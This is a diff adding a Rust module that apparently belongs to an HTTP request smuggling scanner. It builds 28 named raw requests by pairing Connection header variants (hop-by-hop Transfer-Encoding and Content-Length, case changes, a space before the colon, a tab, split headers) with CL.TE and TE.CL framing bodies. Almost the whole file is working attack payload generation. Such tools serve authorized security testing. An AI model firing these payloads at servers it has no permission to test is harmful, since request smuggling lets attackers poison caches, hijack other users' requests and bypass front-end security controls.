@@ -0,0 +1,115 @@
+use super::{PayloadIter, RequestParts};
+
+/// Connection header lines sent in place of the default
+/// `Connection: keep-alive`. Listing a framing header as hop-by-hop asks the
+/// front-end to drop it before forwarding, so a hop that honors the hint and
+/// one that ignores it frame the body differently.
+const CONNECTION_VARIANTS: [&str; 14] = [
+    "Connection: close",
+    "Connection: keep-alive",
+    "Connection: Transfer-Encoding",
+    "Connection: keep-alive, Transfer-Encoding",
+    "Connection: close, Transfer-Encoding",
+    "Connection: Content-Length",
+    "Connection: keep-alive, Content-Length",
+    "Connection: Transfer-Encoding, Content-Length",
+    "Connection: keep-alive\r\nConnection: Transfer-Encoding",
+    "Connection: keep-alive\r\nConnection: Content-Length",
+    "connection: transfer-encoding",
+    "CONNECTION: TRANSFER-ENCODING",
+    "Connection : Transfer-Encoding",
+    "Connection:\tTransfer-Encoding",
+];
+
+/// Name of each [`CONNECTION_VARIANTS`] line.
+const CONNECTION_VARIANT_NAMES: [&str; 14] = [
+    "close",
+    "keep-alive",
+    "te",
+    "keep-alive-te",
+    "close-te",
+    "cl",
+    "keep-alive-cl",
+    "te-cl",
+    "split-te",
+    "split-cl",
+    "lowercase-te",
+    "uppercase-te",
+    "space-before-colon-te",
+    "tab-after-colon-te",
+];
+
+/// Framing conflicts sent with each Connection variant: the header lines and
+/// the body.
+const CONNECTION_FRAMINGS: [(&str, &str); 2] = [
+    // CL.TE
+    (
+        "Content-Length: 6\r\nTransfer-Encoding: chunked",
+        "0\r\n\r\nG",
+    ),
+    // TE.CL
+    (
+        "Content-Length: 4\r\nTransfer-Encoding: chunked",
+        "1\r\nA\r\n0\r\n\r\n",
+    ),
+];
+
+/// Name of each [`CONNECTION_FRAMINGS`] entry.
+const CONNECTION_FRAMING_NAMES: [&str; 2] = ["cl-te", "te-cl"];
+
+/// Generate Connection header variation payloads: every
+/// [`CONNECTION_VARIANTS`] line with CL.TE and TE.CL framing.
+pub fn connection_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    PayloadIter::new(
+        CONNECTION_VARIANTS.len() * CONNECTION_FRAMINGS.len(),
+        move |i| {
+            let connection = CONNECTION_VARIANTS[i / CONNECTION_FRAMINGS.len()];
+            let (framing, body) = CONNECTION_FRAMINGS[i % CONNECTION_FRAMINGS.len()];
+            format!(
+                "{} {} HTTP/1.1\r\n\
+                 Host: {}\r\n\
+                 {}\r\n\
+                 {}\
+                 {}\
+                 {}\r\n\
+                 \r\n\
+                 {}",
+                parts.method,
+                parts.path,
+                parts.host,
+                connection,
+                parts.headers,
+                parts.cookies,
+                framing,
+                body
+            )
+        },
+    )
+    .named(|i, _| {
+        format!(
+            "{}/{}",
+            CONNECTION_VARIANT_NAMES[i / CONNECTION_FRAMINGS.len()],
+            CONNECTION_FRAMING_NAMES[i % CONNECTION_FRAMINGS.len()]
+        )
+    })
+}
+
+/// Eagerly collected [`connection_payloads`]
+pub fn get_connection_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> Vec<String> {
+    connection_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
+}